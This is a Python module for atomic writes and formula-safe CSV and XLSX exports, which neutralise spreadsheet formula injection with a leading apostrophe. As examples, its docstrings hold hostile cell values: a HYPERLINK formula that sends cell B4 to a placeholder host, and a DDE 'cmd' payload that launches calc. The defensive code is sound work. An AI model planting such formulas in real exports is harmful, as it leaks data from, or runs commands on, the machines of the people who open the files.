"""Atomic writes: a killed stage leaves no half-written file or folder behind.

And formula-safe exports: every CSV and XLSX written for people to open goes through
`write_csv`, `write_xlsx` or `csv_text`, so that an enterprise named
``=HYPERLINK("http://x"&B4,"x")`` is shown by a spreadsheet, never run by it (CSV
injection; `formula_safe_text` says what is neutralised and why). Files that programs read
back as data (a delivery for ingestion, the messy test input) are written raw, with a comment
saying so where they are written.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import math
import numbers
import os
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from io import StringIO
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

# Fixed writer settings so that the same table always gives the same bytes.
PARQUET_OPTIONS: dict[str, object] = {"compression": "zstd", "write_statistics": True}


def write_parquet(table: pa.Table, path: Path) -> None:
    tmp = path.with_name(f".{path.name}.tmp")
    pq.write_table(table, tmp, **PARQUET_OPTIONS)
    os.replace(tmp, path)


def file_sha256(path: Path) -> str:
    """The SHA-256 of a file's bytes, read in 1 MiB blocks (memory stays flat for any size)."""
    h = hashlib.sha256()
    with Path(path).open("rb") as f:
        for block in iter(lambda: f.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


def write_json(data: object, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.tmp")
    tmp.write_text(
        json.dumps(data, ensure_ascii=False, indent=2, sort_keys=True) + "\n", encoding="utf-8"
    )
    os.replace(tmp, path)


@contextmanager
def atomic_directory(final: Path) -> Iterator[Path]:
    """Yield a scratch folder; on success it replaces ``final`` in one rename."""
    final = Path(final)
    final.parent.mkdir(parents=True, exist_ok=True)
    scratch = final.with_name(f".{final.name}.partial")
    if scratch.exists():
        shutil.rmtree(scratch)
    scratch.mkdir()
    try:
        yield scratch
    except BaseException:
        shutil.rmtree(scratch, ignore_errors=True)
        raise
    old = final.with_name(f".{final.name}.old")
    if old.exists():
        shutil.rmtree(old)
    if final.exists():
        os.replace(final, old)
    os.replace(scratch, final)
    shutil.rmtree(old, ignore_errors=True)


def atomic_write(path: Path, write: Callable[[Path], object]) -> None:
    """``write(tmp)`` to a temporary name beside ``path``, then rename: never a half file
    (a write that fails leaves no temporary file either)."""
    tmp = path.with_name(f".{path.stem}.tmp{path.suffix}")
    try:
        write(tmp)
    except BaseException:
        tmp.unlink(missing_ok=True)
        raise
    os.replace(tmp, path)


# OWASP (CSV injection): a cell starting with one of these is read as a formula by some
# spreadsheet application; tab and carriage return because some strip them and evaluate what
# follows.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A signed number is a value, not a formula: "-12.5" and "+86" are left as they are.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


# How the CSVs are written. Never the index. Rows end in CRLF (RFC 4180, as Excel writes
# them): the csv module quotes a field holding any character of the line terminator, and a
# bare carriage return left unquoted ends the row in Excel and LibreOffice, so that
# "ACME\r=1+1" would put a live "=1+1" at the start of a new row.
_CSV: dict[str, Any] = {"index": False, "lineterminator": "\r\n"}


def formula_safe_text(text: str) -> str:
    """``text`` with a leading apostrophe if a spreadsheet could take it for a formula.

    Prefixed: text starting with ``= + - @``, a tab or a carriage return, and text whose
    first character after leading whitespace is one of ``= + - @`` (some applications trim
    the cell before they evaluate it, so ``"  =1+1"`` is as live as ``"=1+1"``). Not
    prefixed: a plain signed number (``-12.5``, ``+86``, surrounding spaces allowed), which
    is a value, not a formula (a tab or carriage return before a number is still prefixed).
    Idempotent: text already starting with ``'`` is never prefixed again, so a file read back
    and exported once more does not gather apostrophes.

    >>> formula_safe_text("=1+1"), formula_safe_text(" @SUM(A1)"), formula_safe_text("-12.5")
    ("'=1+1", "' @SUM(A1)", '-12.5')
    >>> formula_safe_text(formula_safe_text("-2+3+cmd|' /C calc'!A0"))
    "'-2+3+cmd|' /C calc'!A0"
    """
    if not (text.startswith(_FORMULA_START) or text.lstrip().startswith(_FORMULA_START[:4])):
        return text
    if _NUMBER.fullmatch(text.strip(" ")):
        return text
    return "'" + text


def _safe_cell(value: Any) -> Any:
    """One cell or header: text neutralised; numbers, booleans, dates and missing as they are;
    any other object (a tuple, a custom type) by the text the CSV writer would give it."""
    if isinstance(value, str):
        return formula_safe_text(value)
    if value is None or isinstance(value, numbers.Number | dt.date | dt.time | dt.timedelta):
        return value  # bool, numpy numbers, Decimal, datetime, pd.Timestamp, NaN, NaT
    if pd.api.types.is_scalar(value) and pd.isna(value):
        return value  # pd.NA and the like
    text = str(value)
    safe = formula_safe_text(text)
    return value if safe == text else safe


def formula_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A new frame whose text cells and column names cannot run as spreadsheet formulas.

    Text columns (object, string and categorical dtypes) go through `formula_safe_text`
    cell by cell (the OWASP recommendation: a leading apostrophe); numeric, boolean and
    datetime columns are left alone, missing values stay missing, and the caller's frame is
    not touched. The index is not changed: the writers here never write it.

    >>> raw = pd.DataFrame({"name": ["=1+1", "+86", None], "=total": [1.5, -2.0, 3.0]})
    >>> safe = formula_safe(raw)
    >>> safe["name"].tolist()[:2], bool(safe["name"].isna().iloc[2])
    (["'=1+1", '+86'], True)
    >>> list(safe.columns), list(raw.columns)
    (['name', "'=total"], ['name', '=total'])
    """
    out = frame.copy()
    for i, dtype in enumerate(out.dtypes):
        if not (pd.api.types.is_string_dtype(dtype) or isinstance(dtype, pd.CategoricalDtype)):
            continue
        column = out.iloc[:, i]
        safe = column.map(_safe_cell, na_action="ignore")
        if not (pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.CategoricalDtype)):
            safe = safe.astype(dtype)  # a string column stays a string column
        out.isetitem(i, safe)
    return out.rename(columns=_safe_cell)


def csv_text(frame: pd.DataFrame, **kw: Any) -> str:
    """The frame as formula-safe CSV text (`write_csv`'s rows), for a download built in
    memory; ``kw`` goes to `pandas.DataFrame.to_csv`."""
    buf = StringIO()
    formula_safe(frame).to_csv(buf, **_CSV, **kw)
    return buf.getvalue()


def write_csv(frame: pd.DataFrame, path: Path, *, encoding: str = "utf-8-sig", **kw: Any) -> None:
    """The frame as a formula-safe CSV, written atomically. UTF-8 with a BOM by default: Excel
    then reads the Chinese text right. ``kw`` goes to `pandas.DataFrame.to_csv`."""
    safe = formula_safe(frame)
    atomic_write(Path(path), lambda p: safe.to_csv(p, encoding=encoding, **_CSV, **kw))


def write_xlsx(frame: pd.DataFrame, path: Path, *, sheet_name: str = "Sheet1") -> None:
    """The frame as a formula-safe workbook, written atomically, without the index.

    Besides the apostrophe of `formula_safe`, every text cell is written as a string cell with
    the text number format ``@`` (never parsed as a formula, number or link), numbers as
    numbers, booleans as booleans, dates and times as dates with their format, a missing value
    as an empty cell. Written by XlsxWriter row by row in its constant-memory mode: a county
    plan or a province's round of hundreds of thousands of rows is written in seconds, where
    openpyxl took minutes (the 7.5M province's round: ~3 minutes of the plan stage)."""
    import xlsxwriter

    safe = formula_safe(frame)
    if len(safe) + 1 > XLSX_MAX_ROWS or len(safe.columns) > XLSX_MAX_COLUMNS:
        raise ValueError(
            f"xlsx {Path(path).name}: {len(safe):,} rows x {len(safe.columns)} columns do not fit "
            f"a worksheet ({XLSX_MAX_ROWS - 1:,} rows, {XLSX_MAX_COLUMNS:,} columns) "
            "[rule: Excel's sheet size]; the CSV beside it holds every row"
        )
    for j, name in enumerate(safe.columns):  # checked before a file is opened
        col = safe.iloc[:, j]
        if not (pd.api.types.is_string_dtype(col.dtype) or col.dtype == object):
            continue
        lengths = col.map(lambda v: len(v) if isinstance(v, str) else 0, na_action="ignore")
        lengths = lengths.fillna(0).to_numpy()
        if len(lengths) and lengths.max() > XLSX_MAX_TEXT:
            row = int(lengths.argmax()) + 1
            longest = int(lengths.max())
            raise ValueError(
                f"xlsx: column {name!s}, row {row}: {longest:,} characters do not fit a cell "
                f"({XLSX_MAX_TEXT:,}) [rule: Excel's cell size]; the CSV beside it holds the text"
            )

    def write(tmp: Path) -> None:
        book = xlsxwriter.Workbook(
            str(tmp),
            {
                "constant_memory": True,
                "strings_to_formulas": False,
                "strings_to_numbers": False,
                "strings_to_urls": False,
            },
        )
        book.set_properties({"created": dt.datetime(*FIXED_TIME, tzinfo=dt.UTC)})
        text = book.add_format({"num_format": "@"})
        head = book.add_format({"bold": True, "num_format": "@"})
        day = book.add_format({"num_format": "yyyy-mm-dd"})
        stamp = book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})
        sheet = book.add_worksheet(sheet_name)
        for j, name in enumerate(safe.columns):
            _xlsx_text(sheet, 0, j, str(name), head, name)
        try:
            for i, row in enumerate(safe.itertuples(index=False, name=None), start=1):
                for j, v in enumerate(row):
                    _xlsx_cell(sheet, i, j, v, text, day, stamp, safe.columns[j])
        finally:
            book.close()  # its temporary files too, whatever happened
        reproducible_zip(tmp)

    atomic_write(Path(path), write)


#: A worksheet's size (rows including the header, columns) and a cell's text length.
XLSX_MAX_ROWS, XLSX_MAX_COLUMNS, XLSX_MAX_TEXT = 1_048_576, 16_384, 32_767


def _xlsx_text(sheet: Any, i: int, j: int, v: str, fmt: Any, column: Any) -> None:
    """A text cell. XlsxWriter writes a text that starts with ``<r>`` and ends with
    ``</r>`` as raw rich-text XML, unescaped, which could carry a formula cell into the
    sheet: such a text gets the apostrophe prefix. Text longer than a cell holds is refused,
    never cut."""
    if v.startswith("<r>") and v.endswith("</r>"):
        v = "'" + v
    if len(v) > XLSX_MAX_TEXT:
        raise ValueError(
            f"xlsx: column {column!s}, row {i}: {len(v):,} characters do not fit a cell "
            f"({XLSX_MAX_TEXT:,}) [rule: Excel's cell size]; the CSV beside it holds the text"
        )
    sheet.write_string(i, j, v, fmt)


def _xlsx_cell(
    sheet: Any, i: int, j: int, v: Any, text: Any, day: Any, stamp: Any, column: Any
) -> None:
    """One cell of `write_xlsx` by the value's type."""
    if v is None or v is pd.NA or v is pd.NaT:
        return
    if isinstance(v, str):
        if v:  # "": a missing value
            _xlsx_text(sheet, i, j, v, text, column)
        return
    if isinstance(v, bool | np.bool_):
        sheet.write_boolean(i, j, bool(v))
        return
    if isinstance(v, numbers.Number) and not isinstance(v, complex):
        x = float(v)  # type: ignore[arg-type]
        if math.isfinite(x):
            sheet.write_number(i, j, x)
        return
    if isinstance(v, dt.datetime):  # pd.Timestamp too
        sheet.write_datetime(i, j, v.replace(tzinfo=None), stamp)
        return
    if isinstance(v, dt.date):
        sheet.write_datetime(i, j, v, day)
        return
    _xlsx_text(sheet, i, j, str(_safe_cell(str(v))), text, column)


#: The time stamped into workbooks and their zip entries: a constant, so that the same table
#: gives the same bytes (openpyxl stamps the wall clock, which no computation may read).
FIXED_TIME = (1980, 1, 1, 0, 0, 0)
_CORE_TIMES = re.compile(rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*(</dcterms:)")


def reproducible_zip(path: Path) -> None:
    """Rewrite an Office file (a zip) with fixed entry times and fixed document dates.

    openpyxl writes the time of writing into each zip entry and into ``docProps/core.xml``
    (created, modified); both are replaced by :data:`FIXED_TIME`, nothing else changes."""
    stamp = b"%04d-%02d-%02dT%02d:%02d:%02dZ" % FIXED_TIME
    with zipfile.ZipFile(path) as src:
        entries = [(info, src.read(info)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w") as out:
        for info, data in entries:
            if info.filename == "docProps/core.xml":
                data = _CORE_TIMES.sub(rb"\g<1>" + stamp + rb"\g<2>", data)
            fixed = zipfile.ZipInfo(info.filename, date_time=FIXED_TIME)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            fixed.external_attr = info.external_attr
            out.writestr(fixed, data)
